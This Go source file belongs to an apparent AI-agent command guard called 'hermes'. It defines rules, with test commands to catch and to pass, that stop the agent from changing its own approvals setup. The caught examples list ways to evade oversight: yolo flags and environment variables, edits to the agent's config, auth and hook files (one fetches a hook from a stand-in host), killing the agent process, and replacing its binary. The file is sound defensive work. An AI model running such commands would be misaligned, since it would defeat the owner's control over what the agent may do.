package command

import (
	"strings"

	"hermes/internal/guard"
	"hermes/internal/shell"
)

// selfConfig are the rules that keep the agent from configuring its own guard: asked every time, and no mode lifts them.
func selfConfig() table {
	const remedy = "ask the owner to do it; look with `hermes config get approvals.mode`"
	row := func(key, why string, m match, hits, passes []string) Rule {
		return Rule{Key: key, Tier: guard.Self, Harms: guard.Host, Match: m, Why: why, Remedy: remedy, Hits: hits, Passes: passes, Sticky: true}
	}
	ask := func(f func(c *ctx, i int, words []shell.Word) bool) match {
		return match{names: hermesPrograms(), test: func(c *ctx, i int) (span, bool) {
			words, ok := c.hermesWords(i)
			if !ok {
				return span{}, false
			}
			return span{}, f(c, i, words)
		}}
	}
	return table{
		row("hermes changes its own configuration", "changes what the guard lets pass, or who may say yes",
			ask(func(_ *ctx, _ int, words []shell.Word) bool { return !readsOnly(words) && configures(words) }),
			[]string{
				"hermes config set approvals.mode off", "hermes config edit", "hermes approvals suggest --apply 1,2", "hermes approvals revoke all",
				"hermes pairing approve telegram A1", "hermes skills install x",
				"hermes profile install ./p", "hermes cron add '* * * * *' x", "hermes gateway run", "hermes gateway install",
				"hermes mcp add x -- npx y", "hermes auth add openrouter", "hermes login",
				"./hermes config set a.b c", "python -m hermes_cli.main config set a b", "go run ./cmd/hermes config set a b",
				"go run ./cmd/hermes/main.go config set a b", "hermes -p work config unset a", "hermes $(echo config) set a b",
				"hermes doctor --ack W12",
				"hermes sandbox clean --all", "hermes tools enable shell", "hermes setup", "sudo hermes gateway install",
				"hermes egress proxy --listen 0.0.0.0:1", "hermes config $X a", "python3 hermes_cli/main.py config set a b",
			},
			[]string{
				"hermes config get approvals.mode", "hermes config path", "hermes check 'rm -rf /'", "hermes doctor", "hermes version",
				"hermes approvals list", "hermes approvals suggest", "hermes approvals test 'ls'",
				"hermes cron list", "hermes gateway status", "hermes sandbox verify", "hermes audit tail", "hermes sessions list", "hermes",
				"hermes cron", "hermes chat -q 'config set'", "go test ./cmd/hermes", "go run ./cmd/hermes check ls",
				"echo hermes config set a b", "hermes config show", "hermes gateway --help", "grep -r 'hermes config set' docs",
				"hermes config --help", "go build -o hermes ./cmd/hermes",
			}),
		row("hermes started with its questions switched off", "starts an agent that nobody asks",
			either(
				ask(func(c *ctx, i int, words []shell.Word) bool {
					return c.says(i, "--yolo", "--dangerously-skip-approvals", "--no-approvals", "--accept-hooks", "--yes-to-all")
				}),
				ask(func(c *ctx, i int, words []shell.Word) bool {
					return len(words) > 0 && words[0].Is("exec") && c.answered(i)
				}),
				ask(func(c *ctx, i int, words []shell.Word) bool {
					return len(words) > 0 && !readsOnly(words) && c.altersHermes(i)
				}),
			),
			[]string{
				"hermes exec --yolo -- rm -rf build", "hermes --yolo exec 'make deploy'", "hermes chat --yolo -q x",
				"yes a | hermes exec 'rm -rf src'", "HERMES_HOME=/tmp/h hermes chat -q x",
				"go run ./cmd/hermes exec --yolo ls", "HERMES_INTERACTIVE=1 hermes exec ls",
			},
			[]string{"hermes chat -q x", "hermes exec 'ls'", "HERMES_HOME=/tmp/h hermes check ls", "echo --yolo", "npm run x -- --yolo",
				"HERMES_HOME=$(mktemp -d) go test ./..."}),
		row("variable that switches hermes' questions off", "makes an agent start that nobody asks",
			match{on: onAssign, test: unasked},
			[]string{"HERMES_YOLO_MODE=1 hermes chat -q hi", "env HERMES_YOLO_MODE=yes hermes exec id", "HERMES_EXEC_ASK=0 make x",
				"HERMES_CRON_SESSION= hermes exec ls"},
			[]string{"HERMES_HOME=/tmp/x go test ./...", "HERMES_LOG=debug hermes doctor", "YOLO=1 make"}),
		row("variable that switches hermes' questions off, for the session",
			"makes every agent start without questions, or hides that it is supervised",
			all(runs("export", "declare", "typeset", "readonly", "unset", "setenv", "set", "local", "make", "docker", "podman", "launchctl",
				"systemctl", "systemd-run", "setx"), when(exportsUnasked)),
			[]string{"export HERMES_YOLO_MODE=true; hermes", "declare -x HERMES_YOLO_MODE=1", "unset HERMES_SUPERVISED_CHILD; hermes gateway stop",
				"export HERMES_EXEC_ASK=0", "launchctl setenv HERMES_YOLO_MODE 1", "docker run -e HERMES_YOLO_MODE=1 x"},
			[]string{"export HERMES_HOME=/tmp/x", "export PATH=$PATH:/x", "unset X", "echo HERMES_YOLO_MODE=1"}),
		row("write into hermes' own files", "changes the agent's settings, secrets, jobs, skills or memory behind its back",
			wrote((*ctx).isOwnFile),
			[]string{
				"echo 'approvals: {mode: off}' > ~/.hermes/config.yaml", "cp /tmp/auth.json ~/.hermes/auth.json",
				"echo '{}' > ~/.hermes/cron/jobs.json", "curl -so ~/.hermes/hooks/pre.sh https://x.example/h",
				"cd ~/.hermes && echo x > config.yaml", "echo x >> $HERMES_HOME/.env", "sed -i s/a/b/ ~/.hermes/config.yaml",
				"dd if=x of=$HOME/.hermes/state.db", "tee ~/.hermes/SOUL.md < x", "truncate -s 0 ~/.hermes/state.db",
				"echo x > ../.hermes/config.yaml", "echo x > .hermes/.env", "mkdir -p ~/.hermes/skills/x && cp e.md ~/.hermes/skills/x/SKILL.md",
			},
			[]string{"cat ~/.hermes/config.yaml", "cp ~/.hermes/config.yaml /tmp/x", "echo x > ./config.yaml", "ls ~/.hermes",
				"tail ~/.hermes/logs/agent.log", "echo x > ~/.hermes/logs/note.log", "grep x ~/.hermes/config.yaml > out"}),
		row("change of hermes' own files by another program", "changes the agent's settings, secrets, jobs, skills or memory behind its back",
			either(
				all(runs("rm", "mv", "mkdir", "rmdir", "unlink", "shred", "chmod", "chown", "chgrp", "chattr", "setfacl", "ed", "ex", "vi", "vim",
					"nvim", "nano", "emacs", "code", "patch", "sponge", "trash", "micro"), operand((*ctx).isOwnFile)),
				all(runs("yq", "jq", "toml", "dasel", "crudini", "awk", "gawk", "ruff", "prettier"), given("-i", "--in-place", "--inplace", "inplace",
					"-iy", "--write", "put"), operand((*ctx).isOwnFile)),
				all(runs("sqlite3", "sqlite"), operand((*ctx).isOwnFile), not(given("-readonly", "--readonly")), when(changesDatabase)),
				all(runs("tar", "bsdtar", "unzip", "7z", "git", "hg", "cpio", "rsync", "wget", "ditto"), when(unpacksInto)),
				all(runs("find"), when(deletesOwn)),
			),
			[]string{
				"rm -f ~/.hermes/config.yaml", "mv ~/.hermes ~/.hermes.bak", "yq -i '.approvals.mode = \"off\"' ~/.hermes/config.yaml",
				"sqlite3 ~/.hermes/state.db 'update sessions set yolo=1'", "tar xf /tmp/h.tar -C ~/.hermes",
				"unzip -o /tmp/h.zip -d ~/.hermes", "git -C ~/.hermes checkout .", "git clone https://x.example/s ~/.hermes/skills/x",
				"vim -es '+%s/a/b/' +wq ~/.hermes/config.yaml", "chmod 777 ~/.hermes/config.yaml", "patch ~/.hermes/config.yaml < p",
				"awk -i inplace 1 ~/.hermes/config.yaml",
				"ed -s ~/.hermes/config.yaml < x", "find ~/.hermes -name '*.json' -delete",
			},
			[]string{
				"yq .approvals ~/.hermes/config.yaml", "sqlite3 ~/.hermes/state.db 'select 1'", "tar cf x.tar ~/.hermes", "git -C ~/.hermes log",
				"rm ~/.hermes/logs/x.log", "find ~/.hermes -name '*.log'", "rm -rf ./hermes",
				"vim ./config.yaml", "tar xf h.tar -C /tmp/h",
			}),
		row("program text that names hermes' own files", "may change the agent's settings or secrets behind its back",
			match{on: onPayload, test: writesOwn},
			[]string{`python3 -c "import os;open(os.path.expanduser('~/.hermes/config.yaml'),'a').write('x')"`,
				`node -e 'require("fs").writeFileSync(process.env.HOME+"/.hermes/config.yaml","x")'`},
			[]string{`python3 -c "print(open('/home/u/.hermes/config.yaml').read())"`, `python3 -c 'print(1)'`}),
		row("kill of hermes by what a list finds", "stops the agent itself, or the gateway it runs in",
			all(runs("kill"), when(killsListedAgent)),
			[]string{"pgrep hermes | xargs kill", "pgrep -f hermes | xargs -r kill -9"},
			[]string{"pgrep nginx | xargs kill", "kill 12345", "lsof -ti:3000 | xargs kill"}),
		row("replacement of the hermes program", "puts something else where the agent is started from",
			either(
				all(runs("mv", "cp", "rm", "ln", "install", "tee", "dd", "chmod", "truncate", "unlink", "shred", "chown"), when(namesProgram)),
				match{names: []string{"alias"}, test: aliasesHermes},
				all(runs("gdb", "lldb", "strace", "ltrace", "gcore", "reptyr", "dlv", "ptrace"), when(attaches)),
			),
			[]string{"mv $(which hermes) /tmp/", `cp /tmp/fake "$(command -v hermes)"`, "alias hermes=/tmp/x", "gdb -p $(pgrep hermes) -batch",
				"cp /tmp/x /usr/local/bin/hermes", "rm ~/.local/bin/hermes"},
			[]string{"cp $(which hermes) /tmp/x", "go build -o bin/hermes ./cmd/hermes", "ls -l $(which hermes)", "alias h=hermes", "gdb ./a.out",
				"rm ./hermes", "cp hermes /tmp/hermes"}),
	}
}

// hermesPrograms names the programs that may run hermes.
func hermesPrograms() []string {
	return []string{"hermes", "hermes_cli.main", "hermes_cli", "hermes-agent", "python", "go", "uv", "uvx", "pipx", "expect"}
}

// hermesWords returns the words that hermes is given, options and their values left out. ok is false when the command does
// not run hermes.
func (c *ctx) hermesWords(i int) (words []shell.Word, ok bool) {
	args := c.args(i)
	from := 1
	switch c.name(i) {
	case "hermes", "hermes_cli.main", "hermes_cli", "hermes-agent":
	case "go":
		if len(args) < 3 || !args[1].Is("run") {
			return nil, false
		}
		from = c.behind(args, 2, "hermes")
	case "python":
		from = -1
		for _, name := range [...]string{"hermes_cli.main", "hermes_cli", "hermes"} {
			if from < 0 {
				from = c.behind(args, 1, name)
			}
		}
		for k := 1; k < len(args) && from < 0; k++ {
			if strings.HasSuffix(args[k].Text, "hermes_cli/main.py") {
				from = k + 1
			}
		}
	default:
		from = c.behind(args, 1, "hermes")
	}
	if from < 0 {
		return nil, false
	}
	for k := from; k < len(args); k++ {
		t := args[k].Text
		switch {
		case t == "--":
			if len(words) > 0 {
				return words, true
			}
		case len(t) > 1 && t[0] == '-' && len(words) == 0:
			switch t {
			case "-p", "--profile", "-c", "--config", "--home", "-m", "--model", "--log-level", "--cwd":
				k++
			}
		case t == "":
		default:
			words = append(words, args[k])
		}
	}
	return words, true
}

// behind returns the index of the argument after the first one, from k on, whose last path element is name; -1 for none.
// Only options may stand in front of it.
func (c *ctx) behind(args []shell.Word, k int, name string) int {
	for ; k < len(args); k++ {
		t := args[k].Text
		if base(strings.TrimSuffix(strings.TrimSuffix(t, "/main.go"), "/")) == name || base(t) == name+".go" {
			return k + 1
		}
		if c.skips(t) {
			continue
		}
		return -1
	}
	return -1
}

// skips tells whether a word may stand between a launcher and the program it runs.
func (c *ctx) skips(t string) bool {
	switch t {
	case "", "run", "tool", "x":
		return true
	}
	return t[0] == '-' || strings.HasPrefix(t, "spawn")
}

// readsOnly tells whether what hermes is told only shows something.
func readsOnly(words []shell.Word) bool {
	if len(words) == 0 {
		return false
	}
	for n, w := range words {
		if w.Is("--help") || w.Is("-h") || w.Is("help") && n < 2 {
			return true
		}
	}
	verb := ""
	if len(words) > 1 && len(words[1].Holes) == 0 {
		verb = words[1].Text
	}
	if len(words[0].Holes) > 0 {
		return false
	}
	switch words[0].Text {
	case "check", "version", "completion", "--version", "explain", "status", "logs", "audit", "insights", "dump":
		return true
	case "doctor":
		for _, w := range words[1:] {
			if strings.HasPrefix(w.Text, "--ack") || strings.HasPrefix(w.Text, "--fix") {
				return false
			}
		}
		return true
	case "approvals":
		switch verb {
		case "list", "ls", "test", "show", "check", "":
			return true
		case "suggest":
			for _, w := range words[2:] {
				if strings.HasPrefix(w.Text, "--apply") || w.Is("-a") {
					return false
				}
			}
			return true
		}
		return false
	}
	if !configures(words) {
		return words[0].Is("sessions") || words[0].Is("session")
	}
	switch verb {
	case "get", "path", "list", "ls", "show", "status", "check", "verify", "probe", "view", "info", "search", "browse", "inspect", "tail", "logs",
		"history", "export", "test", "diff", "env-path", "validate":
		return true
	}
	return false
}

// configures tells whether the first word is about the agent's own set-up.
func configures(words []shell.Word) bool {
	if len(words) == 0 {
		return false
	}
	if len(words[0].Holes) > 0 {
		return true
	}
	switch words[0].Text {
	case "config", "approvals", "pairing", "skills", "skill", "profile", "profiles", "cron", "gateway", "mcp", "tools", "auth", "sandbox", "egress",
		"plugins", "plugin", "hooks", "hook", "doctor",
		"memory", "webhook", "webhooks", "secrets", "tunnel", "personality":
		return len(words) > 1
	case "login", "logout", "setup", "model", "uninstall", "import", "restore", "serve":
		return true
	}
	return false
}

// says tells whether one of the words, alone or with a value, stands among the arguments of command i.
func (c *ctx) says(i int, options ...string) bool {
	for _, w := range c.args(i) {
		for _, o := range options {
			if strings.HasPrefix(w.Text, o) && (len(w.Text) == len(o) || w.Text[len(o)] == '=') {
				return !strings.HasSuffix(w.Text, "=false")
			}
		}
	}
	return false
}

// answered tells whether something else answers the questions of command i.
func (c *ctx) answered(i int) bool {
	for _, r := range c.cmd(i).Redirs {
		if r.Op == "<" && !r.Target.Is("/dev/null") {
			return true
		}
	}
	in := c.cmd(i).Stdin
	if in == nil {
		return false
	}
	for _, n := range in.From {
		switch c.name(n) {
		case "yes", "echo", "printf", "expect":
			return true
		}
	}
	return in.Text != "" && len(in.From) == 0
}

// altersHermes tells whether command i is given variables of hermes' own that change where its settings come from or how it asks.
func (c *ctx) altersHermes(i int) bool {
	for _, a := range c.cmd(i).Assigns {
		switch a.Name {
		case "HERMES_LOG", "HERMES_LOG_LEVEL", "HERMES_PROFILE", "HERMES_NO_COLOR", "HERMES_DEBUG", "HERMES_MODEL":
			continue
		}
		if strings.HasPrefix(a.Name, "HERMES_") {
			return true
		}
	}
	return false
}

// unaskedVariable tells whether a variable decides whether hermes asks.
func unaskedVariable(name string) bool {
	switch name {
	case "HERMES_YOLO_MODE", "HERMES_EXEC_ASK", "HERMES_CRON_SESSION", "HERMES_INTERACTIVE", "HERMES_SUPERVISED_CHILD", "HERMES_GATEWAY_SESSION",
		"HERMES_ACCEPT_HOOKS", "HERMES_APPROVALS_MODE",
		"HERMES_SESSION_KEY", "HERMES_WRITE_SAFE_ROOT", "HERMES_REDACT_SECRETS":
		return true
	}
	return strings.HasPrefix(name, "HERMES_YOLO") || strings.HasPrefix(name, "HERMES_APPROV")
}

func unasked(c *ctx, i int) (span, bool) {
	for _, a := range c.cmd(i).Assigns {
		if unaskedVariable(a.Name) {
			return at(a.Value), true
		}
	}
	return span{}, false
}

func exportsUnasked(c *ctx, i int) (span, bool) {
	for _, w := range c.args(i)[1:] {
		if name, _, _ := cut(w.Text, '='); strings.HasPrefix(name, "HERMES_") && unaskedVariable(name) {
			return at(w), true
		}
	}
	return span{}, false
}

// namesProgram holds when the place hermes is started from is to be written, moved or deleted.
func namesProgram(c *ctx, i int) (span, bool) {
	words := c.operands(i)
	switch c.name(i) {
	case "cp", "ln", "install":
		if len(words) > 1 {
			words = words[len(words)-1:]
		}
	}
	for _, w := range words {
		if len(w.Holes) == 1 && w.Text == shell.Unknown && w.Holes[0].Kind == shell.Output {
			f := strings.Fields(w.Holes[0].Name)
			if len(f) > 1 && f[len(f)-1] == "hermes" && (f[0] == "which" || f[0] == "command" || f[0] == "type" || f[0] == "whereis" ||
				f[0] == "whence") {
				return at(w), true
			}
		}
		for _, t := range c.targets(w, c.cmd(i).Dir) {
			if t.maybe || base(t.path) != "hermes" {
				continue
			}
			switch strings.TrimSuffix(t.path, "/hermes") {
			case "/usr/bin", "/usr/local/bin", "/bin", "~/.local/bin", "~/bin", "/opt/homebrew/bin", "~/go/bin", c.facts.Home + "/.local/bin",
				c.facts.Home + "/bin", c.facts.Home + "/go/bin":
				return at(w), true
			}
		}
	}
	return span{}, false
}

func aliasesHermes(c *ctx, i int) (span, bool) {
	for _, w := range c.args(i)[1:] {
		if strings.HasPrefix(w.Text, "hermes=") {
			return at(w), true
		}
	}
	return span{}, false
}

// attaches holds for a debugger on a process found by the agent's name.
func attaches(c *ctx, i int) (span, bool) {
	for _, w := range c.args(i)[1:] {
		if c.made(w, findsGateway, "$(", "`") {
			return at(w), true
		}
	}
	return span{}, false
}

// killsListedAgent holds for a kill that xargs starts with what a look for hermes finds.
func killsListedAgent(c *ctx, i int) (span, bool) {
	p := c.cmd(i).Parent
	if p < 0 || c.name(p) != "xargs" {
		return span{}, false
	}
	_, ok := c.upstream(p, findsGateway, 24)
	return span{}, ok
}
